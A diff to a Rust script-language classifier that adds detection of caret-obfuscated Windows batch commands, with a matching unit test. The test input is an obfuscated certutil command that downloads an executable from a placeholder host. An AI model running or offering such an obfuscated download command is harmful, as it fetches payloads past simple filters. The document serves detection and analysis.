@@ -84,7 +84,8 @@ fn by_words(lower: &str, lines: usize) -> (Language, Option<Language>) {
         "%errorlevel%",
         "rem ",
     ]) + usize::from(lower.starts_with("@echo")) * 3
-        + usize::from(lower.starts_with("set ")) * 2;
+        + usize::from(lower.starts_with("set ")) * 2
+        + usize::from(lines == 1 && carets(lower) >= 3) * 4;
     let powershell = count(&[
         "$_",
         "new-object",
@@ -163,6 +164,13 @@ fn by_words(lower: &str, lines: usize) -> (Language, Option<Language>) {
     }
 }
 
+/// Carets inside words, which `cmd` takes out.
+fn carets(lower: &str) -> usize {
+    let inside =
+        |part: &[u8]| part[0].is_ascii_alphabetic() && part[1] == b'^' && part[2].is_ascii_alphabetic();
+    lower.as_bytes().windows(3).filter(|part| inside(part)).take(4).count()
+}
+
 /// Whether statements end as those of `JScript` do; what stands between quotes does not count.
 fn ends_statements(lower: &str) -> bool {
     lower.split('"').step_by(2).any(|outside| outside.contains([';', '{']))
@@ -234,6 +242,7 @@ mod tests {
             ("var o = WScript.CreateObject('WScript.Shell'); o.Run('x');", Language::JScript),
             ("CreateObject(\"WScript.Shell\").Run \"a;b\", 0", Language::VbScript),
             ("#@~^EAAAAA==CslX0WMNC", Language::VbScript),
+            ("c^ert^ut^il -urlcache -split -f http://a.example.com/a.exe", Language::Batch),
             ("hello", Language::Unknown),
             ("", Language::Unknown),
         ];
